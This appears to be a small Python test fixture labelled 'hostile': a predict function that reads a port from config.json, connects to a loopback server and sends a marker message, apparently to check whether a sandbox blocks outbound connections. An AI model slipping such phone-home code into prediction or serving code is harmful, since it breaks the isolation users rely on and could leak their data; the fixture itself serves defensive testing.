"""Hostile: phones home to a server on the host's loopback."""

import json
import socket
from pathlib import Path


def predict(inputs, output):
    port = json.loads((Path(__file__).parent / "config.json").read_text())["port"]
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"features follow")
    print("CONNECTED")
